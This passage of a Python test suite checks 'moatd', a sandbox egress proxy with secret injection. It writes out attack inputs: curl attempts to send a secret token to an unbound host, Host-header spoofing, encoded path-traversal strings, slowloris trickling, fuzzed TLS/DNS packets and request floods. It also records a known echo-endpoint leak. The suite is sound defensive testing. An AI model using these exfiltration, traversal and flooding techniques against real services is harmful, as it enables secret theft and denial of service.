        self.assertIn("moat-secret-", out)  # the placeholder stands in for it

    @unittest.expectedFailure
    def test_bound_host_that_echoes_headers_reveals_the_value(self):
        # NOT FIXED (documented limitation): a bound host that reflects the
        # request (an echo endpoint, an error page quoting the URL) returns
        # the value in the response body. moatd scrubs response headers but
        # not bodies: they may be compressed (the environment picks
        # Accept-Encoding), chunked across any boundary, or transformed
        # (base64, JSON escapes) by the server, so no scrubbing can be
        # complete. Bind secrets only to hosts that never reflect them.
        e = self.secret_env(API)
        code, out, err = e.sh(f'curl -sS -m 10 -H "X-Token: $API_TOKEN" https://{API}/echo')
        self.assertEqual(code, 0, err)
        self.assertNotIn(SECRET_VALUE, out)

    def test_placeholder_variants_never_carry_the_value(self):
        e = self.secret_env(API, OTHER)
        ph = e.exec(["printenv", "API_TOKEN"])[1].strip()
        self.assertTrue(ph.startswith("moat-secret-"))
        head, tail = ph[:len("moat-secret-")], ph[len("moat-secret-"):]
        variants = [["-H", f"X-T: {ph.upper()}"], ["-H", f"X-A: {head}", "-H", f"X-B: {tail}"],
                    ["-H", f"X-T: {ph[:-1]}"], ["--data", f"t={ph}"]]
        outs = []
        for url in (f"https://{OTHER}/v", f"http://{OTHER}/v", f"https://{API}/v", f"http://{API}/v"):
            for v in variants:
                code, out, err = e.exec(["curl", "-sS", "-m", "10", *v, url])
                outs.append(out)
        code, out, err = e.exec(["curl", "-sS", "-m", "10", f"https://{OTHER}/q?{ph.replace('-', '%2D')}"])
        outs.append(out)
        for url in (f"https://{OTHER}/q?t={ph}", f"http://{OTHER}/q?t={ph}", f"https://{OTHER}/{ph}/x"):
            code, out, err = e.exec(["curl", "-sS", "-m", "10", url])
            self.assertIn("moat:", out)
            outs.append(out)
        self.assertNotIn(SECRET_VALUE, "\n".join(outs))

    def test_secret_goes_only_where_its_host_really_is(self):
        # Picking another address for the bound name, a trailing dot, upper
        # case, a port: the value goes to api.example.test's own servers.
        e = self.secret_env(API, OTHER, header="Authorization: Bearer {value}")
        code, out, err = e.sh(
            f'curl -sS -m 10 --noproxy "*" --resolve {API}:443:{OTHER_IP} https://{API}/a; echo; '
            f'curl -sS -m 10 --noproxy "*" --resolve {API.upper()}:443:{OTHER_IP} https://{API.upper()}/b; echo; '
            f'curl -sS -m 10 --noproxy "*" -H "Host: {API}" http://{OTHER_IP}/c; echo; '
            f'curl -sS -m 10 -H "Host: {API}" http://{OTHER}/d; echo')
        injected = 0
        for line in out.splitlines():
            if '"server"' in line:
                j = json.loads(line)
                if j.get("headers", {}).get("authorization"):
                    injected += 1
                    self.assertEqual(j["server"], API, line)
        self.assertGreaterEqual(injected, 2, out)

    def test_secret_globs_that_reach_hosts_anyone_can_register_are_refused(self):
        # "*" crosses dots: under a public suffix, or above one, a glob
        # would hand the value to other people's hosts. Refused at create,
        # naming the field; nothing is created.
        for i, glob in enumerate(("*.co.uk", "*.github.io", "*.amazonaws.com", "api-?.s3.amazonaws.com")):
            status, body = self.moatd.call("POST", "/v1/environments", {
                "network": allow(API), "task_id": f"psl-{i}",
                "secrets": [{"name": "API_TOKEN", "value": SECRET_VALUE, "hosts": [API, glob]}]})
            self.assertEqual(status, 400, body)
            self.assertIn("secrets[0].hosts[1]", json.dumps(body))
            self.assertIn("public suffix", json.dumps(body))
            self.assertNotIn(SECRET_VALUE, json.dumps(body))
            for state in ("running", "failed"):
                status, body = self.moatd.call("GET", f"/v1/environments?task_id=psl-{i}&state={state}")
                self.assertEqual((status, body["environments"]), (200, []), body)

    # --- (4) hurting moatd ---------------------------------------------------

    def test_huge_heads_are_cut_off(self):
        e = self.env(network=allow(API))
        t0 = time.monotonic()
        out = self.py(e, f'''
big = 'X-Big: ' + 'a' * (1 << 20) + '\\r\\n'
many = ''.join('X-%d: v\\r\\n' % i for i in range(20000))
for target in ('proxy', 'transparent'):
    for extra in (big, many):
        s = proxy() if target == 'proxy' else socket.create_connection(('{API_IP}', 80), timeout=5)
        try:
            s.sendall(('GET http://{API}/ HTTP/1.1\\r\\nHost: {API}\\r\\n' + extra + '\\r\\n').encode())
        except OSError:
            pass
        st, head, body = response(s)
        print(target, st)
''')
        self.assertLess(time.monotonic() - t0, 30)
        self.assertNotIn(" 200", out)
        self.healthy()

    def test_garbage_on_every_listener(self):
        e = self.env(network=allow(API))
        fds = self.moatd_fds()
        out = self.py(e, f'''
import random
random.seed(7)
blobs = [b'\\x16\\x03\\x01\\xff\\xff' + b'\\x01' * 100, b'\\x16\\x03\\x01\\x00\\x00', b'\\x16\\x03\\x01\\x00\\x05\\x01\\x00\\xff\\xff\\xff',
         b'\\x16\\x03\\x03\\x00\\x30\\x01\\x00\\x00\\x2c\\x03\\x03' + b'\\x00' * 32 + b'\\x20', b'\\x00' * 64,
         b'GET / HTTP/1.1\\r\\nHost: \\x00\\xff\\r\\n\\r\\n', b'GET /\\x00 HTTP/1.1\\r\\n\\r\\n', b'\\r\\n' * 1000,
         b'CONNECT ' + b'a' * 5000 + b':443 HTTP/1.1\\r\\n\\r\\n', b'CONNECT :0 HTTP/1.1\\r\\n\\r\\n',
         b'CONNECT {API}:99999 HTTP/1.1\\r\\n\\r\\n', b'CONNECT [::1]:443 HTTP/1.1\\r\\n\\r\\n']
blobs += [bytes(random.getrandbits(8) for _ in range(random.randint(1, 3000))) for _ in range(30)]
for port in (80, 443, {3128}):
    for b in blobs:
        try:
            s = socket.create_connection((PH, port), timeout=3)
            s.sendall(b); s.shutdown(socket.SHUT_WR); s.recv(100)
        except OSError:
            pass
        s.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(0.3)
packets = [b'', b'\\x00', b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\xc0\\x0c\\x00\\x01\\x00\\x01',
           b'\\x12\\x34\\x81\\x00' + b'\\x00' * 8, b'\\x12\\x34\\x28\\x00\\x00\\x01' + b'\\x00' * 6,
           b'\\x12\\x34\\x01\\x00\\xff\\xff' + b'\\x00' * 6 + b'\\x3f' + b'a' * 63,
           b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + b'\\x3f' + b'a' * 63 + b'\\x3f' + b'b' * 63 + b'\\x3f' + b'c' * 63 + b'\\x3f' + b'd' * 63 + b'\\x01e\\x00\\x00\\x01\\x00\\x01']
packets += [bytes(random.getrandbits(8) for _ in range(random.randint(12, 600))) for _ in range(50)]
for p in packets:
    u.sendto(p, (PH, 53))
    try: u.recv(1000)
    except OSError: pass
import urllib.request
print(json.load(urllib.request.urlopen('https://{API}/after'))['path'])
''', timeout_ms=120000)
        self.assertIn("/after", out)
        self.healthy()
        self.assert_fds_back(fds, wait_s=10)

    def test_a_request_head_that_trickles_in_is_cut_at_the_head_timeout(self):
        # Slowloris: a byte at a time, each well within the 5-minute idle
        # timeout, would hold a connection (and a thread of moatd) forever.
        # A whole head (or TLS ClientHello) must arrive within the head
        # timeout on every entry: a first head to the proxy, a later one on a
        # kept-alive connection, plain HTTP and TLS sent to the destination.
        # A kept-alive connection that rests longer than that between two
        # requests is not cut (the idle timeout is 5 minutes).
        e = self.env(network=allow(API))
        out = self.py(e, f'''
import threading
GET = 'GET http://{API}/%s HTTP/1.1\\r\\nHost: {API}\\r\\nX-Pad: ' + 'a' * 400
def trickle(name, target, first, drip, results):
    s = socket.create_connection(target, timeout=5)
    if first:
        status, _, _ = ask(s, first)
        if status != 200: results[name] = ('first request', status); return
    t0 = time.monotonic(); answer = b''
    s.setblocking(False)
    for b in drip:
        try:
            s.send(bytes([b]))
        except OSError:
            break
        r, _, _ = __import__('select').select([s], [], [], 0.25)
        if r:
            try:
                got = s.recv(4096)
            except OSError:
                break
            if not got: break
            answer += got
        if time.monotonic() - t0 > 40: break
    results[name] = (round(time.monotonic() - t0, 2), answer.split(b'\\r\\n')[0].decode('latin-1'))
hello = b'\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03' + b'\\x00' * 400
cases = {{
    'forward, first head': ((PH, PP), None, (GET % 'one').encode()),
    'forward, kept alive': ((PH, PP), GET % 'one' + '\\r\\n\\r\\n', (GET % 'two').encode()),
    'plain http': (('{API_IP}', 80), None, (GET % 'one').encode()),
    'tls': (('{API_IP}', 443), None, hello),
}}
def rest(results):
    # Resting between requests is no trickle: only the idle timeout applies.
    s = proxy()
    first, _, _ = ask(s, GET % 'one' + '\\r\\n\\r\\n')
    time.sleep({HEAD_TIMEOUT_S} + 1)
    results['rested'] = (first, ask(s, GET % 'two' + '\\r\\n\\r\\n')[0])
results = {{}}
ts = [threading.Thread(target=trickle, args=(n, *c, results)) for n, c in cases.items()]
ts.append(threading.Thread(target=rest, args=(results,)))
[t.start() for t in ts]; [t.join() for t in ts]
print(json.dumps(results))
''', timeout_ms=120000)
        results = json.loads(out.strip().splitlines()[-1])
        self.assertEqual(results.pop("rested", None), [200, 200], results)
        self.assertEqual(len(results), 4, results)
        for name, (seconds, first_line) in results.items():
            self.assertIsInstance(seconds, float, f"{name}: {results}")
            self.assertGreaterEqual(seconds, HEAD_TIMEOUT_S - 1, f"{name}: {results}")
            self.assertLess(seconds, HEAD_TIMEOUT_S + 10, f"{name}: {results}")
            if name != "tls":
                self.assertIn(" 408 ", first_line, f"{name}: {results}")
        timed_out = [ev["data"] for ev in self.events(e, "egress.denied")
                     if ev["data"].get("rule") == "head_timeout"]
        self.assertEqual(len(timed_out), 4, timed_out)
        self.assertTrue(all("within 5 s" in ev["reason"] for ev in timed_out), timed_out)
        self.healthy()

    def test_a_refused_client_that_keeps_sending_is_cut_off(self):
        # After a refusal the proxy drops what still arrives, so that a client
        # still sending its body can read why (not a reset). Only for so long:
        # a client that never stops holds the connection (and its place under
        # max_connections) at most the head timeout more.
        e = self.env(network=allow(API))
        out = self.py(e, f'''
s = proxy()
s.sendall(b'POST http://{OTHER}/x HTTP/1.1\\r\\nHost: {OTHER}\\r\\nContent-Length: 100000000\\r\\n\\r\\n')
answer = s.recv(4096)
t0 = time.monotonic(); ended = 'still open'
while time.monotonic() - t0 < 30:
    try:
        s.send(b'x' * 1000)
    except OSError as e:
        ended = type(e).__name__; break
    time.sleep(0.2)
print(json.dumps([answer.split(b'\\r\\n')[0].decode(), round(time.monotonic() - t0, 1), ended]))
''', timeout_ms=60000)
        first_line, seconds, ended = json.loads(out.strip().splitlines()[-1])
        self.assertIn(" 403 ", first_line)
        self.assertNotEqual(ended, "still open")
        self.assertGreaterEqual(seconds, HEAD_TIMEOUT_S - 1, "cut before the client could finish")
        self.assertLess(seconds, HEAD_TIMEOUT_S + 3)
        self.healthy()

    def test_a_slow_approval_does_not_cut_an_intercepted_tls_handshake(self):
        # TLS sent straight to an address (no CONNECT, no name asked of moat's
        # resolver) is decided once its ClientHello names the host; with
        # "ask" that waits for a person.
        # The handshake that follows (intercepted: the environment has a
        # secret) gets its own head timeout, not what the wait left of it.
        e = self.env(network=allow(API), permissions={"network": "ask"},
                     secrets=[{"name": "API_TOKEN", "value": SECRET_VALUE, "hosts": [API]}])
        status, body = self.moatd.call(
            "POST", f"/v1/environments/{e.id}/processes",
            {"cmd": ["curl", "-sS", "-m", "60", "--noproxy", "*", "--resolve", f"{OTHER}:443:{OTHER_IP}",
                     f"https://{OTHER}/asked"]})
        self.assertEqual(status, 201, body)
        pid = body["id"]
        deadline = time.monotonic() + 20
        pending = []
        while not pending and time.monotonic() < deadline:
            pending = self.moatd.call("GET", f"/v1/approvals?state=pending&environment={e.id}")[1]["approvals"]
            time.sleep(0.05)
        self.assertTrue(pending, "no approval was requested")
        asked = time.monotonic()
        while time.monotonic() < asked + HEAD_TIMEOUT_S + 1:   # the person takes longer than a head may
            time.sleep(0.1)
        status, body = self.moatd.call("POST", f"/v1/approvals/{pending[0]['id']}", {"decision": "approve"})
        self.assertEqual(status, 200, body)
        deadline = time.monotonic() + 30
        body = {"state": "running"}
        while body.get("state") == "running" and time.monotonic() < deadline:
            status, body = self.moatd.call("GET", f"/v1/environments/{e.id}/processes/{pid}")
            time.sleep(0.05)
        self.assertEqual(body.get("exit_code"), 0, body)

    def test_connection_churn_leaks_no_descriptors_or_threads(self):
        e = self.env(network=allow(API, max_connections=8))
        fds = self.moatd_fds()
        threads = self.moatd_counts()[1]
        self.py(e, f'''
import threading
def churn(n):
    for i in range(n):
        for target in ((PH, {3128}), ('{API_IP}', 80), ('{API_IP}', 443), ('{OTHER_IP}', 443)):
            try:
                s = socket.create_connection(target, timeout=3)
                if i % 3 == 0: s.sendall(b'GET http://{OTHER}/ HTTP/1.1\\r\\n\\r\\n')
                if i % 3 == 1: s.sendall(b'\\x16\\x03\\x01\\x00')
                s.close()
            except OSError:
                pass
ts = [threading.Thread(target=churn, args=(40,)) for _ in range(6)]
[t.start() for t in ts]; [t.join() for t in ts]
''', timeout_ms=120000)
        self.assert_fds_back(fds)
        deadline = time.monotonic() + 15
        while self.moatd_counts()[1] > threads + 2 and time.monotonic() < deadline:
            time.sleep(0.05)
        self.assertLessEqual(self.moatd_counts()[1], threads + 2)

    def test_connection_limit_holds_under_a_burst(self):
        e = self.env(network=allow(API, max_connections=4))
        other = self.env(network=allow(API))
        out = self.py(e, '''
import threading, select
socks = []
def one():
    try:
        socks.append(socket.create_connection((PH, PP), timeout=5))
    except OSError:
        pass
ts = [threading.Thread(target=one) for _ in range(120)]
[t.start() for t in ts]; [t.join() for t in ts]
deadline = time.monotonic() + 2
held = list(socks)
while time.monotonic() < deadline:
    r, _, _ = select.select(held, [], [], 0.1)
    for s in r:
        held.remove(s)  # a 503 or the end: not held open
print('held', len(held))
open('/tmp/holding', 'w').close()
''')
        held = int(out.split("held")[1].split()[0])
        self.assertLessEqual(held, 4, out)
        self.assertGreaterEqual(held, 1, out)
        # Another environment is not affected by this one's limit.
        code, out2, err = other.exec(["curl", "-sS", "-m", "10", f"https://{API}/fine"])
        self.assertEqual(code, 0, err)

    def dns_flood(self, env, count, suffix):
        return self.py(env, f'''
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.setblocking(False)
sent = 0
for i in range({count}):
    h = struct.pack('>HHHHHH', i & 0xffff, 0x0100, 1, 0, 0, 0)
    name = 'n%d-%x.{suffix}' % (i, i * 7919)
    for label in name.split('.'): h += bytes([len(label)]) + label.encode()
    try:
        u.sendto(h + b'\\0' + struct.pack('>HH', 1, 1), (PH, 53)); sent += 1
    except BlockingIOError:
        time.sleep(0.001)
    if i % 100 == 99: time.sleep(0.02)
print('sent', sent)
''', timeout_ms=120000)

    def test_dns_flood_does_not_flood_the_audit_log(self):
        # Every refused question used to be an audit event: a few thousand
        # UDP packets a second became a few thousand events a second.
        e = self.env(network=allow(API))
        self.dns_flood(e, 4000, "flood.attacker.test")
        time.sleep(0.5)  # let the last questions be answered (or dropped)
        events = [ev for ev in self.events(e, "egress.denied") if ev["data"].get("via") == "dns"]
        self.assertLess(len(events), 1500, f"{len(events)} events for one flood")
        # Still answered afterwards.
        out = self.py(e, f'''
for i in range(100):
    try:
        print(socket.gethostbyname('{API}')); break
    except OSError:
        time.sleep(0.05)
''')
        self.assertIn(API_IP, out)

    def test_refusal_flood_is_recorded_at_a_bounded_rate(self):
        # Refused connections cost the environment one connect() each; each
        # was an audit event. Recorded at a bounded rate, the rest counted.
        e = self.env(network=allow(API))
        out = self.py(e, f'''
import threading
answered = []
def churn(n):
    for i in range(n):
        try:
            s = proxy()
            s.sendall(b'CONNECT {OTHER}:443 HTTP/1.1\\r\\n\\r\\n')
            if s.recv(100): answered.append(1)
            s.close()
        except OSError:
            pass
ts = [threading.Thread(target=churn, args=(250,)) for _ in range(8)]
[t.start() for t in ts]; [t.join() for t in ts]
print('answered', len(answered))
''', timeout_ms=120000)
        refusals = int(out.split()[1])
        self.assertGreater(refusals, 1500, out)
        recorded = self.events(e, "egress.denied")
        self.assertLess(len(recorded), 1000, f"{len(recorded)} events for {refusals} refusals")
        # The next refusal recorded carries the count of those left out.
        self.assert_every_one_counted(
            e, "egress.denied", refusals, f"s = proxy(); s.sendall(b'CONNECT {OTHER}:443 HTTP/1.1\\r\\n\\r\\n'); s.recv(100)")

    def test_allowed_connection_flood_is_recorded_at_a_bounded_rate(self):
        # Each tunnel to an allowed host (and each request, where requests
        # are visible) is an audit event: a loop of them would fill the audit
        # log and the disk under it. Recorded at a bounded rate, the rest
        # counted into the next one recorded. (Open mode relays a CONNECT to
        # a port other than 443 as it is: the cheapest allowed tunnel. Some
        # are refused, 64 being open at once: those are not counted here.)
        e = self.env(network="open")
        connect = f"CONNECT {API}:{RAW_PORT} HTTP/1.1\\r\\nHost: {API}:{RAW_PORT}\\r\\n\\r\\n"
        out = self.py(e, f'''
import threading
opened, t0 = [], time.monotonic()
def churn():
    while len(opened) < 4000 and time.monotonic() - t0 < 60:
        try:
            s = proxy()
            if ask(s, '{connect}')[0] == 200: opened.append(1)
            s.close()
        except OSError:
            pass
ts = [threading.Thread(target=churn) for _ in range(4)]
[t.start() for t in ts]; [t.join() for t in ts]
print('opened', len(opened), time.monotonic() - t0)
''', timeout_ms=180000)
        tunnels, seconds = int(out.split()[1]), float(out.split()[2])
        self.assertGreaterEqual(tunnels, 4000, out)
        recorded = self.events(e, "egress.allowed")
        # 200 a second, 1,000 saved up.
        self.assertLess(len(recorded), min(tunnels, 1000 + 200 * seconds + 100), out)
        # The next tunnel recorded carries the count of those left out (its
        # event is written when it ends, just after the program does).
        self.assert_every_one_counted(e, "egress.allowed", tunnels, f"s = proxy(); ask(s, '{connect}'); s.close()")

    def test_dns_flood_with_a_slow_upstream_does_not_starve_others(self):
        # Names an "open" environment may resolve go to the host's resolver;
        # a resolver that does not answer kept one thread per question, and
        # one environment could take every thread moatd allows itself.
        flooder = self.env(network="open")
        victim = self.env(network=allow(API))
        SPY.silent = True
        try:
            self.dns_flood(flooder, 6000, "slow.test")
            code, out, err = victim.exec(["curl", "-sS", "-m", "10", f"https://{API}/still-here"])
        finally:
            SPY.silent = False
        self.assertEqual(code, 0, err)
        self.assertIn("/still-here", out)

    # --- (5) the gate and stand-in addresses -----------------------------------

    def ask_env(self, *hosts):
        return self.env(network=allow(*hosts), permissions={"network": "ask"})

    def test_stand_in_addresses_do_not_leak_names_across_environments(self):
        a = self.ask_env()
        b = self.env(network=allow(API))
        name = "secret-project-x.example.test"
        out = self.py(a, f"print(socket.gethostbyname('{name}'))")
        stand_in = out.strip()
        self.assertTrue(stand_in.startswith("198.1"), out)
        out = self.py(b, f'''
s = socket.create_connection(('{stand_in}', 80), timeout=5)
print(ask(s, 'GET / HTTP/1.1\\r\\nHost: probe.example.test\\r\\n\\r\\n'))
s = socket.create_connection(('{stand_in}', 80), timeout=5)
print(ask(s, 'GET / HTTP/1.1\\r\\n\\r\\n'))
''')
        self.assertNotIn("secret-project", out)
        self.assertNotIn("secret-project", json.dumps(self.events(b)))

    def test_stand_in_only_reaches_the_name_looked_up(self):
        e = self.ask_env(API)
        out = self.py(e, f'''
addr = socket.gethostbyname('unlisted-z.example.test')
print('stand-in', addr)
s = socket.create_connection((addr, 80), timeout=5)
print('host', ask(s, 'GET / HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n')[0])
s = socket.create_connection((addr, 443), timeout=5)
try:
    tls(s, '{API}'); print('tls handshake done')
except (OSError, ssl.SSLError) as x:
    print('tls refused')
s = socket.create_connection(('198.18.200.200', 80), timeout=5)
print('unmapped', ask(s, 'GET / HTTP/1.1\\r\\nHost: 198.18.200.200\\r\\n\\r\\n')[0])
''')
        self.assertIn("stand-in 198.1", out)
        self.assertIn("host 403", out)
        self.assertIn("tls refused", out)
        self.assertIn("unmapped 403", out)
        status, body = self.moatd.call("GET", f"/v1/approvals?state=pending&environment={e.id}")
        self.assertEqual(body["approvals"], [])

    def test_one_question_however_many_connections_ask_it(self):
        # Each connection to an unlisted host used to ask the person again:
        # twelve connections, twelve approvals (and one environment could keep
        # max_connections of them pending forever). Now they wait together.
        e = self.ask_env()
        status, body = self.moatd.call("POST", f"/v1/environments/{e.id}/processes", {"cmd": ["python3", "-c", LIB + f'''
import threading
results = []
def one():
    s = proxy(); s.settimeout(12)
    results.append(ask(s, 'CONNECT {OTHER}:443 HTTP/1.1\\r\\nHost: {OTHER}:443\\r\\n\\r\\n')[0])
ts = [threading.Thread(target=one) for _ in range(12)]
[t.start() for t in ts]; [t.join() for t in ts]
open('/tmp/result', 'w').write(json.dumps(results))
''']})
        self.assertEqual(status, 201, body)
        deadline = time.monotonic() + 20
        pending = []
        while not pending and time.monotonic() < deadline:
            pending = self.moatd.call("GET", f"/v1/approvals?state=pending&environment={e.id}")[1]["approvals"]
            time.sleep(0.05)
        self.assertTrue(pending)
        status, body = self.moatd.call("POST", f"/v1/approvals/{pending[0]['id']}",
                                       {"decision": "approve", "remember": True})
        self.assertEqual(status, 200, body)
        deadline = time.monotonic() + 30
        while e.exec(["test", "-e", "/tmp/result"])[0] != 0 and time.monotonic() < deadline:
            time.sleep(0.05)
        self.assertEqual(json.loads(e.exec(["cat", "/tmp/result"])[1]), [200] * 12)
        asked = self.moatd.call("GET", f"/v1/approvals?environment={e.id}")[1]["approvals"]
        self.assertEqual(len(asked), 1, asked)

    # --- (6) policy changes while connections are open -----------------------

    def test_tightened_policy_applies_to_the_next_request_on_an_open_connection(self):
        e = self.env(network=allow(API, OTHER), secrets=[
            {"name": "API_TOKEN", "value": SECRET_VALUE, "hosts": [API]}])
        status, body = self.moatd.call("POST", f"/v1/environments/{e.id}/processes", {"cmd": ["python3", "-c", LIB + f'''
s = proxy()
t, _ = tunnel('{OTHER}', 443)
out = [ask(s, 'GET http://{OTHER}/one HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n')[0],
       ask(t, 'GET /one HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n')[0]]
open('/tmp/step1', 'w').close()
while not os.path.exists('/tmp/go'): time.sleep(0.02)
out += [ask(s, 'GET http://{OTHER}/two HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n')[0],
        ask(t, 'GET /two HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n')[0]]
open('/tmp/result', 'w').write(json.dumps(out))
''']})
        self.assertEqual(status, 201, body)
        deadline = time.monotonic() + 20
        while e.exec(["test", "-e", "/tmp/step1"])[0] != 0 and time.monotonic() < deadline:
            time.sleep(0.05)
        self.assertEqual(e.set_network(allow(API))[0], 200)
        e.exec(["touch", "/tmp/go"])
        deadline = time.monotonic() + 20
        while e.exec(["test", "-e", "/tmp/result"])[0] != 0 and time.monotonic() < deadline:
            time.sleep(0.05)
        self.assertEqual(json.loads(e.exec(["cat", "/tmp/result"])[1]), [200, 200, 403, 403])

    def test_method_case_does_not_dodge_a_method_rule(self):
        e = self.env(network={"allow": [API], "deny": [{"host": API, "methods": ["DELETE"]}]})
        out = self.py(e, f'''
for m in ('DELETE', 'delete', 'Delete'):
    s = proxy()
    st, head, body = ask(s, '%s http://{API}:{RAW_PORT}/thing HTTP/1.1\\r\\nHost: {API}:{RAW_PORT}\\r\\n\\r\\n' % m)
    print(m, st, 'moat' if 'X-Moat-Egress: denied' in head else 'UPSTREAM')
''')
        self.assertNotIn("UPSTREAM", out)

    def test_encoded_dot_segments_do_not_dodge_path_rules(self):
        # Servers decode %2e and %2f (and some take ';' parameters or '\')
        # before they resolve dot segments: the rule must see what they see.
        e = self.env(network={"allow": [{"host": API, "paths": ["/repos/**"]}]})
        before = len(RAW.seen)
        tricks = ["/repos/%2e%2e/admin", "/repos/%2E%2E/admin", "/repos/.%2e/admin", "/repos/..%2fadmin",
                  "/repos/..%2Fadmin", "/repos/..;/admin", "/repos/%2e%2e%2fadmin", "/repos/x/..%5c..%5cadmin",
                  "/repos/x#/../../admin"]
        out = self.py(e, f'''
for path in {tricks!r} + ['/repos/fine%20name', '/repos/a/../b']:
    s = proxy()
    st, head, body = ask(s, 'GET http://{API}:{RAW_PORT}%s HTTP/1.1\\r\\nHost: {API}:{RAW_PORT}\\r\\n\\r\\n' % path)
    print(path, st, 'moat' if 'X-Moat-Egress: denied' in head else 'UPSTREAM')
''')
        lines = {line.split()[0]: line.split()[1:] for line in out.splitlines()}
        for t in tricks:
            self.assertEqual(lines[t], ["403", "moat"], out)
        self.assertEqual(lines["/repos/fine%20name"], ["200", "UPSTREAM"], out)
        self.assertEqual(lines["/repos/a/../b"], ["200", "UPSTREAM"], out)

    def test_mode_none_cuts_open_tunnels(self):
        e = self.env(network=allow(API))
        status, body = self.moatd.call("POST", f"/v1/environments/{e.id}/processes", {"cmd": ["python3", "-c", LIB + f'''
t, _ = tunnel('{API}', 443)
out = [ask(t, 'GET /one HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n')[0]]
open('/tmp/step1', 'w').close()
while not os.path.exists('/tmp/go'): time.sleep(0.02)
t.settimeout(3)
try:
    out.append(ask(t, 'GET /two HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n')[0])
except OSError as x:
    out.append(str(x))
open('/tmp/result', 'w').write(json.dumps(out))
''']})
        self.assertEqual(status, 201, body)
        deadline = time.monotonic() + 20
        while e.exec(["test", "-e", "/tmp/step1"])[0] != 0 and time.monotonic() < deadline:
            time.sleep(0.05)
        self.assertEqual(e.set_network("none")[0], 200)
        e.exec(["touch", "/tmp/go"])
        deadline = time.monotonic() + 20
        while e.exec(["test", "-e", "/tmp/result"])[0] != 0 and time.monotonic() < deadline:
            time.sleep(0.05)
        result = json.loads(e.exec(["cat", "/tmp/result"])[1])
        self.assertEqual(result[0], 200)
        self.assertNotEqual(result[1], 200)


def main():
    def prepare(world):
        global WORLD
        WORLD = world
        extend_world(world)
    return base.main(prepare)


if __name__ == "__main__":
    sys.exit(main())
